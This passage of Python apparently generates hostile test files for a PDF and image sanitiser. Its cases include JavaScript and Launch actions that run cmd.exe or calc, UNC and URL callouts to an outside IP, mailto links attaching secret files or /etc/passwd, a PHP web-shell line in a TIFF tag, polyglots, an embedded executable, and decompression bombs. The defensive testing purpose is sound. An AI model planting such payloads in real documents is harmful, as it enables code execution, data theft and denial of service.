    """A little-endian TIFF of one 8×8 grey strip with extra tags (type, value bytes) written as given."""
    pixels = bytes(range(64))
    entries = {256: (3, struct.pack("<H", 8)), 257: (3, struct.pack("<H", 8)), 258: (3, struct.pack("<H", 8)),
               259: (3, struct.pack("<H", 1)), 262: (3, struct.pack("<H", 1)), 273: (4, b"PIXL"),
               277: (3, struct.pack("<H", 1)), 278: (3, struct.pack("<H", 8)), 279: (4, struct.pack("<I", 64)),
               **extra}
    sizes = {1: 1, 2: 1, 3: 2, 4: 4, 7: 1, 13: 4}
    ifd_at = 8
    data_at = ifd_at + 2 + 12 * len(entries) + 4
    body, table = bytearray(), bytearray(struct.pack("<H", len(entries)))
    for tag in sorted(entries):
        kind, value = entries[tag]
        count = len(value) // sizes[kind]
        if value == b"PIXL":
            count, value = 1, b"PIXL"
        if len(value) <= 4:
            table += struct.pack("<HHI", tag, kind, count) + value.ljust(4, b"\x00")
        else:
            table += struct.pack("<HHII", tag, kind, count, data_at + len(body))
            body += value + b"\x00" * (len(value) & 1)
    table += struct.pack("<I", 0)
    pixels_at = data_at + len(body)
    out = b"II*\x00" + struct.pack("<I", ifd_at) + bytes(table) + bytes(body) + pixels
    return out.replace(b"PIXL", struct.pack("<I", pixels_at), 1)


def _tiff_subifd() -> bytes:
    """SubIFDs (tag 330) holding a second, different picture — a thumbnail a viewer may show."""
    hidden = _tiff_tags({})
    first = _tiff_tags({330: (4, b"SUBI")})
    at = len(first)
    shifted = bytearray(hidden[8:])
    # rebase the hidden IFD's strip offset onto its new place
    hidden_ifd = at
    count = struct.unpack_from("<H", shifted, 0)[0]
    for n in range(count):
        tag = struct.unpack_from("<H", shifted, 2 + 12 * n)[0]
        if tag == 273:
            old = struct.unpack_from("<I", shifted, 2 + 12 * n + 8)[0]
            struct.pack_into("<I", shifted, 2 + 12 * n + 8, old - 8 + at)
    return first.replace(b"SUBI", struct.pack("<I", hidden_ifd), 1) + bytes(shifted)


def _tiff_ifd_loop() -> bytes:
    """The IFD's next-IFD pointer points back at itself: a reader counting pages never stops."""
    data = bytearray(_tiff_tags({}))
    count = struct.unpack_from("<H", data, 8)[0]
    struct.pack_into("<I", data, 8 + 2 + 12 * count, 8)
    return bytes(data)


def _webp(**options: object) -> bytes:
    return _pillow(fmt="WEBP", lossless=True, **options)


def _webp_animated() -> bytes:
    frames = [Image.new("RGB", (40, 30), colour) for colour in ((255, 0, 0), (0, 255, 0), (0, 0, 255))]
    out = io.BytesIO()
    frames[0].save(out, "WEBP", save_all=True, append_images=frames[1:], duration=100, loop=0, lossless=True)
    return out.getvalue()


def _heic() -> bytes:
    """An HEIC with EXIF, XMP and a second, larger image beside its 96 × 64 primary one (an image
    collection: the primary is what a viewer shows first; the second must not be what crosses)."""
    import pillow_heif

    image = Image.open(io.BytesIO(_pillow(size=(96, 64))))
    heif = pillow_heif.from_pillow(image)
    heif.add_from_pillow(Image.new("RGB", (200, 150), (255, 0, 0)))
    exif = Image.Exif()
    exif[0x010E] = "<script>alert(1)</script>"
    out = io.BytesIO()
    heif.save(out, quality=80, exif=exif.tobytes(), xmp=XMP)
    return out.getvalue()


def _bmp_after() -> bytes:
    return _pillow(fmt="BMP") + _zip()


SVG = (b'<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="alert(1)">'
       b'<script>alert(2)</script><rect width="40" height="40" fill="red"/></svg>')


# ============================================================================ the cases
@dataclass(frozen=True)
class Case:
    name: str
    filename: str
    build: Callable[[], bytes]


def _pdf_case(name: str, build: Callable[[], bytes]) -> Case:
    return Case(name, f"{name}.pdf", build)


_GOTO_NEXT_JS = lambda pdf: Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=_js())  # noqa: E731
_PAGE = lambda pdf: Array([pdf.pages[0].obj, Name.Fit])  # noqa: E731
PDF_CASES = [
    _pdf_case("open-action-js", _pdf(_set("Root/OpenAction", lambda pdf: pdf.make_indirect(_js())))),
    _pdf_case("open-action-launch", _pdf(_set("Root/OpenAction", lambda pdf: _launch()))),
    _pdf_case("catalog-aa", _pdf(_set("Root/AA", lambda pdf: Dictionary(WC=_js(), WS=_js(), DS=_js(), WP=_launch(),
                                                                      DP=_js())))),
    _pdf_case("page-aa", _pdf(_set("Page/AA", lambda pdf: Dictionary(O=_js(), C=_launch())))),
    _pdf_case("gotor-unc", _pdf(_set("Root/OpenAction", lambda pdf: Dictionary(
        S=Name.GoToR, F=String("\\\\198.51.100.7\\share\\x.pdf"), D=Array([0, Name.Fit]), NewWindow=True)))),
    _pdf_case("gotor-filespec-url", _pdf(lambda pdf: _link(pdf, Dictionary(
        S=Name.GoToR, F=Dictionary(FS=Name.URL, F=String("http://198.51.100.7/x.pdf")), D=Array([0, Name.Fit]))))),
    _pdf_case("gotoe", _pdf(lambda pdf: _link(pdf, Dictionary(
        S=Name.GoToE, F=String("\\\\198.51.100.7\\s\\p.pdf"), T=Dictionary(R=Name.C, N=String("x")))))),
    _pdf_case("uri-file", _pdf(_uri(String("file:///C:/Windows/System32/calc.exe")))),
    _pdf_case("uri-javascript", _pdf(_uri(String("javascript:app.alert(1)")))),
    _pdf_case("uri-javascript-tab", _pdf(_uri(String(" java\tscript:alert(1)")))),
    _pdf_case("uri-unc", _pdf(_uri(String("\\\\198.51.100.7\\share\\x.lnk")))),
    _pdf_case("uri-utf16-javascript", _pdf(_uri(String("JavaScript:alert(1) \u3042")))),
    _pdf_case("uri-mailto-attach", _pdf(_uri(String("mailto:a@example.jp?attach=C:\\secret.xlsx")))),
    _pdf_case("uri-relative-base", _pdf(lambda pdf: (_uri(String("calc.exe"))(pdf), pdf.Root.__setitem__(
        Name.URI, Dictionary(Base=String("file:///C:/Windows/System32/")))))),
    _pdf_case("submit-form", _pdf(lambda pdf: _link(pdf, Dictionary(
        S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://198.51.100.7/c")), Flags=4)))),
    _pdf_case("import-data", _pdf(lambda pdf: _link(pdf, Dictionary(S=Name.ImportData, F=String("\\\\h\\s\\d.fdf"))))),
    _pdf_case("rendition", _pdf(lambda pdf: _link(pdf, Dictionary(S=Name.Rendition, OP=0, JS=String("app.alert(1)"))))),
    _pdf_case("sound", _pdf(lambda pdf: _link(pdf, Dictionary(S=Name.Sound, Sound=pdf.make_stream(
        b"\x00" * 64, R=8000, F=String("\\\\198.51.100.7\\s\\a.wav")))))),
    _pdf_case("movie", _pdf(lambda pdf: _link(pdf, Dictionary(S=Name.Movie, T=String("m"))))),
    _pdf_case("hide", _pdf(lambda pdf: _link(pdf, Dictionary(S=Name.Hide, T=String("x"), H=False)))),
    _pdf_case("named-menu-item", _pdf(lambda pdf: _link(pdf, Dictionary(S=Name.Named, N=Name("/AcroSendMail:SendMail"))))),
    _pdf_case("goto-next-js", _pdf(lambda pdf: _link(pdf, _GOTO_NEXT_JS(pdf)))),
    _pdf_case("uri-next-launch", _pdf(lambda pdf: _link(pdf, Dictionary(
        S=Name.URI, URI=String("https://example.jp/"), Next=Array([_launch(), _js()]))))),
    _pdf_case("next-loop", _pdf(_next_loop)),
    _pdf_case("next-chain-3000", _pdf(_next_chain)),
    _pdf_case("transition-next", _pdf(lambda pdf: (_set("Page/Trans", lambda pdf: Dictionary(
        Type=Name.Trans, S=Name.Dissolve, D=1, Next=_js()))(pdf), _set("Page/Dur", lambda pdf: 1)(pdf)))),
    _pdf_case("typeless-js", _pdf(lambda pdf: _link(pdf, Dictionary(JS=String("app.alert(1)"))))),
    _pdf_case("typeless-launch", _pdf(lambda pdf: _link(pdf, Dictionary(
        F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"), P=String("/c calc")))))),
    _pdf_case("link-aa", _pdf(lambda pdf: _link(pdf, Dictionary(S=Name.URI, URI=String("https://example.jp/")),
                                                AA=Dictionary(E=_js(), X=_launch())))),
    _pdf_case("names-javascript", _pdf(_names("JavaScript", lambda pdf: pdf.make_indirect(_js())))),
    _pdf_case("names-embedded-files", _pdf(_names("EmbeddedFiles", _embedded))),
    _pdf_case("names-templates", _pdf(_names("Templates", lambda pdf: pdf.make_indirect(Dictionary(
        Type=Name.Page, MediaBox=[0, 0, 100, 100], AA=Dictionary(O=_js())))))),
    _pdf_case("names-dests-action", _pdf(lambda pdf: (_names("Dests", lambda pdf: Dictionary(
        D=_PAGE(pdf), S=Name.JavaScript, JS=String("app.alert(1)"), A=_js()))(pdf),
        _link(pdf, None, Dest=String("x"))))),
    _pdf_case("dests-action", _pdf(lambda pdf: (_set("Root/Dests", lambda pdf: Dictionary(d1=Dictionary(
        D=_PAGE(pdf), A=_launch(), Next=_js())))(pdf), _link(pdf, None, Dest=Name("/d1"))))),
    _pdf_case("file-attachment-annot", _pdf(_annot("FileAttachment", FS=_embedded, Contents=lambda pdf: String("x")))),
    _pdf_case("af-catalog-page", _pdf(lambda pdf: (_set("Root/AF", lambda pdf: Array([_embedded(pdf)]))(pdf),
                                                   _set("Page/AF", lambda pdf: Array([_embedded(pdf)]))(pdf)))),
    _pdf_case("xfa-stream", _pdf(_set("Root/AcroForm", lambda pdf: Dictionary(Fields=Array(), XFA=pdf.make_stream(
        b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script contentType='application/x-javascript'>"
        b"app.alert(1)</script></xdp:xdp>"))))),
    _pdf_case("richmedia-annot", _pdf(_annot("RichMedia", RichMediaContent=lambda pdf: Dictionary(
        Assets=Dictionary(Names=Array([String("a.swf"), _embedded(pdf)]))),
        RichMediaSettings=lambda pdf: Dictionary(Activation=Dictionary(Condition=Name.PO))))),
    _pdf_case("3d-annot", _pdf(_annot("3D", **{"3DD": lambda pdf: pdf.make_stream(
        b"U3D\x00", Type=Name("/3D"), Subtype=Name.U3D, OnInstantiate=pdf.make_stream(b"app.alert(1)"))}))),
    _pdf_case("screen-annot", _pdf(_annot("Screen", A=lambda pdf: Dictionary(S=Name.Rendition, OP=4, JS=String("x")),
                                         AA=lambda pdf: Dictionary(PO=_js())))),
    _pdf_case("movie-sound-annots", _pdf(lambda pdf: pdf.pages[0].obj.__setitem__(Name.Annots, Array([
        Dictionary(Type=Name.Annot, Subtype=Name.Movie, Rect=[0, 0, 9, 9], Movie=Dictionary(F=String("\\\\h\\m.mov"))),
        Dictionary(Type=Name.Annot, Subtype=Name.Sound, Rect=[0, 0, 9, 9], Sound=pdf.make_stream(b"\x00", R=8000)),
    ])))),
    _pdf_case("link-shared-with-outline", _pdf(_shared_action)),
    _pdf_case("outline-loop-js", _pdf(_outline_loop)),
    _pdf_case("appearance-resources-actions", _pdf(_ap_with_action)),
    _pdf_case("type3-postscript", _pdf(_type3(b"1000 0 0 0 1000 1000 d1 (calc) PS 0 0 1000 1000 re f"))),
    _pdf_case("type3-bx-ex-unknown", _pdf(_type3(
        b"1000 0 d0 BX /x /y evilop EX 0 0 500 500 re f 1 2 3 4 5 6 d1 (a) (b) systemdict run"))),
    _pdf_case("postscript-xobject", _pdf(_xobject(lambda pdf: pdf.make_stream(
        b"(%pipe%calc) (w) file", Type=Name.XObject, Subtype=Name.PS)))),
    _pdf_case("reference-xobject", _pdf(_xobject(lambda pdf: pdf.make_stream(
        b"0 0 1 rg 0 0 1 1 re f", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 1, 1],
        Ref=Dictionary(F=String("\\\\198.51.100.7\\s\\r.pdf"), Page=0),
        OPI=Dictionary(Version=2.0, F=String("\\\\198.51.100.7\\s\\hi-res.tif")))))),
    _pdf_case("external-stream-data", _pdf(_xobject(lambda pdf: _image(
        pdf, b"\x80" * 64, Array(), F=Dictionary(FS=Name.URL, F=String("http://198.51.100.7/px")),
        FFilter=Name.FlateDecode)))),
    _pdf_case("page-content-ps-operator", _pdf(lambda pdf: pdf.pages[0].obj.__setitem__(Name.Contents, pdf.make_stream(
        b"(%pipe%calc) PS BX 1 2 evilop EX BT /F1 24 Tf 72 700 Td (Hello) Tj ET")))),
    _pdf_case("jbig2-globals", _pdf(_xobject(lambda pdf: _image(
        pdf, b"\x00\x00\x00\x01\x30\x01\x00\x00\x00\x13" + b"\x00" * 32, Name.JBIG2Decode, BitsPerComponent=1,
        DecodeParms=Dictionary(JBIG2Globals=pdf.make_stream(b"\x00\x00\x00\x00\x00\x01\x00\x00\x00\x10" + HTML)))))),
    _pdf_case("jpx-not-jpeg2000", _pdf(_xobject(lambda pdf: _image(pdf, HTML, Name.JPXDecode)))),
    _pdf_case("dct-html-inline", _pdf(lambda pdf: pdf.pages[0].obj.__setitem__(Name.Contents, pdf.make_stream(
        b"q 10 0 0 10 72 400 cm BI /W 8 /H 8 /CS /G /BPC 8 /F /DCT ID " + HTML + b" EI Q "
        b"BT /F1 24 Tf 72 700 Td (Hello) Tj ET")))),
    _pdf_case("flate-bomb-content", lambda: _save_bomb()),
    _pdf_case("object-streams-js", pdf_object_streams_js),
    _pdf_case("encrypted-empty-user-js", pdf_encrypted_js),
    _pdf_case("incremental-update-js", raw_incremental_js),
    _pdf_case("prev-loop", raw_prev_loop),
    _pdf_case("undelete-revision", raw_undelete),
    _pdf_case("free-object-referenced", raw_free_referenced),
    _pdf_case("broken-xref-reconstructed", raw_broken_xref),
    _pdf_case("duplicate-open-action", raw_duplicate(
        catalog=b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] /OpenAction 6 0 R >>")),
    _pdf_case("duplicate-s-uri-then-launch", raw_duplicate(
        link_action=b"<< /S /URI /URI (https://example.jp/) /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >> >>")),
    _pdf_case("duplicate-s-launch-then-uri", raw_duplicate(
        link_action=b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >> /S /URI /URI (https://example.jp/) >>")),
    _pdf_case("duplicate-uri-value", raw_duplicate(
        link_action=b"<< /S /URI /URI (https://example.jp/) /URI (file:///C:/Windows/System32/calc.exe) >>")),
    _pdf_case("html-polyglot", raw_html_polyglot),
    _pdf_case("zip-appended", pdf_plus_zip),
    _pdf_case("zip-first-pdf-after", raw_zip_prefix),
    _pdf_case("xmp-script-metadata", _pdf(_set("Root/Metadata", lambda pdf: pdf.make_stream(
        XMP, Type=Name.Metadata, Subtype=Name.XML)))),
    _pdf_case("page-thumb-pieceinfo", _pdf(lambda pdf: (
        _set("Page/Thumb", lambda pdf: _image(pdf, HTML[:64], Array()))(pdf),
        _set("Page/PieceInfo", lambda pdf: Dictionary(App=Dictionary(Private=pdf.make_stream(HTML))))(pdf)))),
]


def _save_bomb() -> bytes:
    pdf = _base()
    _bomb_stream(pdf)
    return _save(pdf, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)


PICTURE_CASES = [
    Case("jpeg-zip-after-eoi", "jpeg-zip-after-eoi.jpg", lambda: _jpeg_with(after=_zip())),
    Case("jpeg-comment-html", "jpeg-comment-html.jpg", lambda: _jpeg_with(_segment(0xFE, HTML))),
    Case("jpeg-app15-phar", "jpeg-app15-phar.jpg", lambda: _jpeg_with(_segment(0xEF, PHAR))),
    Case("jpeg-app1-pdf", "jpeg-app1-pdf.jpg", lambda: _jpeg_with(_segment(0xE1, raw_html_polyglot()[:60000]))),
    Case("jpeg-exif-xmp-script", "jpeg-exif-xmp-script.jpg", _exif_jpeg),
    Case("jpeg-icc-odd-tags", "jpeg-icc-odd-tags.jpg", lambda: _jpeg_with(_icc_segments(ICC_ODD))),
    Case("jpeg-icc-lying-size", "jpeg-icc-lying-size.jpg", lambda: _jpeg_with(_icc_segments(
        _icc([(b"wtpt", _xyz(1, 2, 3))], declared=0xFFFFFF00)))),
    Case("jpeg-sof-bomb", "jpeg-sof-bomb.jpg", _jpeg_sof_bomb),
    Case("jpeg-second-image-mpf", "jpeg-second-image-mpf.jpg", lambda: _jpeg_with(
        _segment(0xE2, b"MPF\x00II*\x00\x08\x00\x00\x00"), after=_pillow(fmt="JPEG", size=(16, 16)))),
    Case("jpeg-cmyk-adobe", "jpeg-cmyk-adobe.jpg", lambda: _pillow("CMYK", fmt="JPEG")),
    Case("png-zip-after-iend", "png-zip-after-iend.png", lambda: _pillow() + _zip()),
    Case("png-text-chunks", "png-text-chunks.png", lambda: _png_with(
        _png_chunk(b"tEXt", b"Comment\x00" + HTML), _png_chunk(b"zTXt", b"Raw\x00\x00" + zlib.compress(PHAR)),
        _png_chunk(b"iTXt", b"XML:com.adobe.xmp\x00\x00\x00\x00\x00" + XMP))),
    Case("png-exif-chunk", "png-exif-chunk.png", lambda: _png_with(_png_chunk(b"eXIf", Image.Exif().tobytes()[6:]
                                                                               + HTML))),
    Case("png-private-chunk-zip", "png-private-chunk-zip.png", lambda: _png_with(_png_chunk(b"prVt", _zip()))),
    Case("png-icc-odd-tags", "png-icc-odd-tags.png", lambda: _png_with(
        _png_chunk(b"iCCP", b"odd\x00\x00" + zlib.compress(ICC_ODD)))),
    Case("png-pixel-bomb", "png-pixel-bomb.png", _png_bomb),
    Case("png-apng-frames", "png-apng-frames.png", _apng),
    Case("gif-comment-html", "gif-comment-html.gif", lambda: _gif_insert(b"\x21\xfe" + _gif_data(HTML))),
    Case("gif-application-xmp", "gif-application-xmp.gif", lambda: _gif_insert(
        b"\x21\xff" + _gif_data(b"XMP DataXMP" + XMP))),
    Case("gif-plain-text-ext", "gif-plain-text-ext.gif", lambda: _gif_insert(
        b"\x21\x01\x0c" + b"\x00" * 12 + _gif_data(HTML))),
    Case("gif-zip-after-trailer", "gif-zip-after-trailer.gif", lambda: _gif() + _zip()),
    Case("gif-js-polyglot", "gif-js-polyglot.gif", _gif_js_polyglot),
    Case("gif-animated", "gif-animated.gif", lambda: _gif(frames=4)),
    Case("gif-canvas-bomb", "gif-canvas-bomb.gif", _gif_canvas_bomb),
    Case("gif-frame-bomb", "gif-frame-bomb.gif", _gif_frame_bomb),
    Case("tiff-three-pages", "tiff-three-pages.tif", lambda: _tiff(pages=3)),
    Case("tiff-subifd", "tiff-subifd.tif", _tiff_subifd),
    Case("tiff-description-xmp-iptc", "tiff-description-xmp-iptc.tif", lambda: _tiff_tags({
        270: (2, HTML + b"\x00"), 700: (1, XMP), 33723: (7, b"\x1c\x02\x78" + struct.pack(">H", len(HTML)) + HTML),
        305: (2, b"<?php system($_GET[0]); ?>\x00")})),
    Case("tiff-ifd-loop", "tiff-ifd-loop.tif", _tiff_ifd_loop),
    Case("tiff-zip-after", "tiff-zip-after.tif", lambda: _tiff() + _zip()),
    Case("webp-exif-xmp", "webp-exif-xmp.webp", lambda: _webp(exif=Image.Exif().tobytes() + HTML, xmp=XMP)),
    Case("webp-after-riff", "webp-after-riff.webp", lambda: _webp() + _zip()),
    Case("webp-animated", "webp-animated.webp", _webp_animated),
    Case("heic-second-image-exif", "heic-second-image-exif.heic", _heic),
    Case("bmp-zip-after", "bmp-zip-after.bmp", _bmp_after),
    Case("svg-named-png", "svg-named-png.png", lambda: SVG),
    Case("html-named-png", "html-named-png.png", lambda: HTML),
    Case("pdf-named-jpg", "pdf-named-jpg.jpg", lambda: _save(_base())),
    Case("jar-named-jpg", "jar-named-jpg.jpg", lambda: _zip()),
    Case("phar-gif", "phar-gif.gif", lambda: b"GIF89a" + PHAR),
]


# ---- second round: fake pages in destinations, loops, fonts and programs inside a PDF
def _fake_page(pdf: pikepdf.Pdf) -> Dictionary:
    """A page-looking dictionary that is not in the page tree, carrying a page's /AA."""
    return Dictionary(Type=Name.Page, MediaBox=[0, 0, 10, 10], AA=Dictionary(O=_js(), C=_launch()))


def _font_file(key: str, data: bytes, **extra: object) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        font = pdf.pages[0].obj.Resources.Font.F1
        program = pdf.make_stream(data, **extra)
        font.FontDescriptor = pdf.make_indirect(Dictionary(
            Type=Name.FontDescriptor, FontName=Name.Helvetica, Flags=32, FontBBox=[0, -200, 1000, 900],
            ItalicAngle=0, Ascent=900, Descent=-200, CapHeight=700, StemV=80, **{key: program}))
        font.FirstChar, font.LastChar, font.Widths = 32, 126, Array([500] * 95)

    return change


TYPE1_HEADER = (b"%!PS-AdobeFont-1.0: Evil 001\n/FontName /Evil def\n(%pipe%calc.exe) (w) file\n"
                b"/FontMatrix [0.001 0 0 0.001 0 0] readonly def\ncurrentfile eexec\n" + b"\x00" * 64 + b"cleartomark\n")
CMAP_PS = (b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap (%pipe%calc) (r) file run "
           b"/CMapName /Evil def 1 begincodespacerange <00> <FF> endcodespacerange 1 begincidrange <20> <7e> 1 "
           b"endcidrange endcmap CMapName currentdict /CMap defineresource pop end end")


def _type0_cmap(pdf: pikepdf.Pdf) -> None:
    cmap = pdf.make_stream(CMAP_PS, Type=Name.CMap, CMapName=Name.Evil,
                           CIDSystemInfo=Dictionary(Registry=String("Adobe"), Ordering=String("Identity"), Supplement=0))
    descendant = Dictionary(Type=Name.Font, Subtype=Name.CIDFontType2, BaseFont=Name.Evil,
                            CIDSystemInfo=Dictionary(Registry=String("Adobe"), Ordering=String("Identity"),
                                                     Supplement=0), DW=500)
    font = Dictionary(Type=Name.Font, Subtype=Name.Type0, BaseFont=Name.Evil, Encoding=cmap,
                      DescendantFonts=Array([pdf.make_indirect(descendant)]), ToUnicode=pdf.make_stream(CMAP_PS))
    page = pdf.pages[0].obj
    page.Resources.Font.F0 = pdf.make_indirect(font)
    page.Contents = pdf.make_stream(b"BT /F0 12 Tf 72 650 Td (abc) Tj ET BT /F1 24 Tf 72 700 Td (Hello) Tj ET")


def _calculator_escape(pdf: pikepdf.Pdf) -> None:
    """A shading whose type 4 function is PostScript beyond the calculator's words."""
    function = pdf.make_stream(b"{ (%pipe%calc) (w) file pop 0.5 }", FunctionType=4, Domain=[0, 1], Range=[0, 1])
    shading = Dictionary(ShadingType=2, ColorSpace=Name.DeviceGray, Coords=[0, 0, 100, 0], Function=function)
    page = pdf.pages[0].obj
    page.Resources.Shading = Dictionary(Sh0=pdf.make_indirect(shading))
    page.Resources.ExtGState = Dictionary(GS0=Dictionary(Type=Name.ExtGState, TR=function,
                                                          HT=pdf.make_stream(b"x", HalftoneType=16, Width=1, Height=1)))
    page.Contents = pdf.make_stream(b"q /GS0 gs 0 0 100 100 re W n /Sh0 sh Q BT /F1 24 Tf 72 700 Td (Hello) Tj ET")


def _icc_in_pdf(pdf: pikepdf.Pdf) -> None:
    profile = pdf.make_stream(ICC_ODD, N=3)
    pdf.pages[0].obj.Resources.ColorSpace = Dictionary(CS0=Array([Name.ICCBased, profile]))
    pdf.pages[0].obj.Contents = pdf.make_stream(b"/CS0 cs 1 0 0 sc 0 0 100 100 re f BT /F1 24 Tf 72 700 Td (Hi) Tj ET")


def _form_self(pdf: pikepdf.Pdf) -> None:
    """A form XObject that draws itself: a renderer or a walker that follows it never stops."""
    form = pdf.make_indirect(pdf.make_stream(b"0.9 0 0 0.9 1 1 cm /X0 Do 0 0 10 10 re f", Type=Name.XObject,
                                             Subtype=Name.Form, BBox=[0, 0, 100, 100]))
    form.Resources = Dictionary(XObject=Dictionary(X0=form))
    _xobject(lambda pdf: form)(pdf)


def _page_tree_loop() -> bytes:
    objects = dict(_PAGE_OBJECTS)
    objects[2] = b"<< /Type /Pages /Kids [3 0 R 2 0 R 7 0 R] /Count 3 >>"
    objects[7] = b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>"
    objects.pop(6)
    return _raw(objects)


def _deep_array(depth: int, where: bytes) -> Callable[[], bytes]:
    def build() -> bytes:
        objects = dict(_PAGE_OBJECTS)
        nested = b"[" * depth + b"0" + b"]" * depth
        objects[3] = objects[3].replace(b"/Contents 5 0 R", b"/Contents 5 0 R " + where + b" " + nested)
        objects.pop(6)
        return _raw(objects)

    return build


def _escaped_names() -> bytes:
    """Names written with #xx escapes (§7.3.5): /#41A is /AA, /Java#53cript is /JavaScript."""
    objects = dict(_PAGE_OBJECTS)
    objects[3] = objects[3].replace(b"/Contents 5 0 R", b"/Contents 5 0 R /#41A << /#4F 6 0 R >> /Annots [7 0 R]")
    objects[6] = b"<< /#53 /Java#53cript /#4A#53 (app.alert\\(1\\)) >>"
    objects[7] = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launc#68 /F (cmd.exe) >> >>"
    return _raw(objects)


def _apng_lying() -> bytes:
    """acTL says one frame; three fcTL/fdAT follow, one 4000 × 4000 on a 40 × 30 canvas."""
    png = _apng()
    png = png.replace(b"acTL\x00\x00\x00\x03", b"acTL\x00\x00\x00\x01")
    at = png.index(b"acTL") - 4
    return png[:at] + _png_chunk(b"acTL", struct.pack(">II", 1, 0)) + png[at + 20:]


def _animated_webp_canvas_bomb() -> bytes:
    data = bytearray(_webp_animated())
    at = data.index(b"VP8X")
    data[at + 8 + 4:at + 8 + 10] = (16383).to_bytes(3, "little") + (16383).to_bytes(3, "little")
    return bytes(data)


def _tiff_bomb() -> bytes:
    return _tiff_tags({256: (4, struct.pack("<I", 200000)), 257: (4, struct.pack("<I", 200000))})


def _bmp_bomb() -> bytes:
    """A BMP claiming 30000 × 30000 8-bit RLE pixels in a few bytes."""
    header = struct.pack("<IiiHHIIiiII", 40, 30000, 30000, 1, 8, 1, 4, 2835, 2835, 256, 0)
    palette = b"\x00\x00\x00\x00" * 256
    data = b"\x00\x01"  # end of bitmap
    offset = 14 + len(header) + len(palette)
    return b"BM" + struct.pack("<IHHI", offset + len(data), 0, 0, offset) + header + palette + data


def _jpeg_many_scans() -> bytes:
    """A progressive JPEG whose scans are repeated 3000 times: each pass costs a decoder a sweep."""
    jpeg = _pillow(fmt="JPEG", size=(256, 256), progressive=True)
    last_scan = jpeg.rindex(b"\xff\xda")
    scan = jpeg[last_scan:-2]
    return jpeg[:-2] + scan * 3000 + b"\xff\xd9"


MORE_PDF_CASES = [
    _pdf_case("goto-fake-page-aa", _pdf(lambda pdf: _link(pdf, Dictionary(S=Name.GoTo, D=Array([_fake_page(pdf),
                                                                                                   Name.Fit]))))),
    _pdf_case("open-action-fake-page", _pdf(_set("Root/OpenAction", lambda pdf: Array([_fake_page(pdf), Name.Fit])))),
    _pdf_case("dest-is-action", _pdf(lambda pdf: _link(pdf, None, Dest=_js()))),
    _pdf_case("link-pa-javascript", _pdf(lambda pdf: _link(pdf, Dictionary(
        S=Name.URI, URI=String("https://example.jp/")), PA=Dictionary(S=Name.URI, URI=String("javascript:x"))))),
    _pdf_case("uri-as-name", _pdf(_uri(Name("/javascript:alert(1)")))),
    _pdf_case("uri-mailto-encoded-attach", _pdf(_uri(String("mailto:a@example.jp?%61ttach=C:/secret.xlsx")))),
    _pdf_case("uri-mailto-upper-attach", _pdf(_uri(String("MAILTO:a@example.jp?subject=x&ATTACH=/etc/passwd")))),
    _pdf_case("uri-with-nul", _pdf(_uri(String("https://example.jp/\x00javascript:alert(1)")))),
    _pdf_case("escaped-names", _escaped_names),
    _pdf_case("fontfile2-html", _pdf(_font_file("FontFile2", HTML, Length1=len(HTML)))),
    _pdf_case("fontfile-type1-postscript", _pdf(_font_file("FontFile", TYPE1_HEADER, Length1=len(TYPE1_HEADER) - 75,
                                                         Length2=64, Length3=12))),
    _pdf_case("fontfile3-opentype-zip", _pdf(_font_file("FontFile3", _zip(), Subtype=Name.OpenType))),
    _pdf_case("type0-cmap-postscript", _pdf(_type0_cmap)),
    _pdf_case("type4-function-escape", _pdf(_calculator_escape)),
    _pdf_case("icc-odd-tags-in-pdf", _pdf(_icc_in_pdf)),
    _pdf_case("form-draws-itself", _pdf(_form_self)),
    _pdf_case("page-tree-loop", _page_tree_loop),
    _pdf_case("deep-array-400-kept-key", _deep_array(400, b"/UserUnit")),
    _pdf_case("deep-array-20000", _deep_array(20000, b"/PieceInfo")),
    _pdf_case("type3-draws-ps-xobject", _pdf(lambda pdf: (_type3(b"1000 0 0 0 1000 1000 d1 /P0 Do")(pdf),
                                                          pdf.pages[0].obj.Resources.Font.T3.Resources.__setitem__(
        Name.XObject, Dictionary(P0=pdf.make_stream(b"(calc) run", Type=Name.XObject, Subtype=Name.PS)))))),
]

def _tree_loops(pdf: pikepdf.Pdf) -> None:
    """A destination name tree, page-label number tree and outline whose kids lead back to themselves."""
    page = pdf.pages[0].obj
    dests = pdf.make_indirect(Dictionary(Names=Array([String("a"), Array([page, Name.Fit])])))
    dests.Kids = Array([dests])
    labels = pdf.make_indirect(Dictionary(Nums=Array([0, Dictionary(S=Name.D)])))
    labels.Kids = Array([labels])
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
    item = pdf.make_indirect(Dictionary(Title=String("loop"), Parent=outlines, First=outlines, Last=outlines,
                                        Count=1, A=Dictionary(S=Name.GoTo, D=Array([_fake_page(pdf), Name.Fit]))))
    outlines.First = outlines.Last = item
    pdf.Root.Names = Dictionary(Dests=dests)
    pdf.Root.PageLabels = labels
    pdf.Root.Outlines = outlines
    _link(pdf, None, Dest=String("a"))


def _jpeg_carrier(pdf: pikepdf.Pdf) -> Stream:
    """A real JPEG for a DCT image, with a comment page, EXIF and a whole ZIP after its end marker."""
    jpeg = _exif_jpeg()
    data = jpeg[:2] + _segment(0xFE, HTML) + jpeg[2:] + _zip("payload.exe", b"MZ" + b"\x00" * 200)
    stream = _image(pdf, data, Name.DCTDecode)
    stream.Width, stream.Height, stream.ColorSpace = 48, 64, Name.DeviceRGB
    return stream


def _jpx_carrier(pdf: pikepdf.Pdf) -> Stream:
    """A real JP2 for a JPX image, with an XML box of script and a whole ZIP after its last box."""
    out = io.BytesIO()
    Image.open(io.BytesIO(_pillow())).save(out, "JPEG2000")
    jp2 = out.getvalue()
    at = jp2.index(b"jp2c") - 4
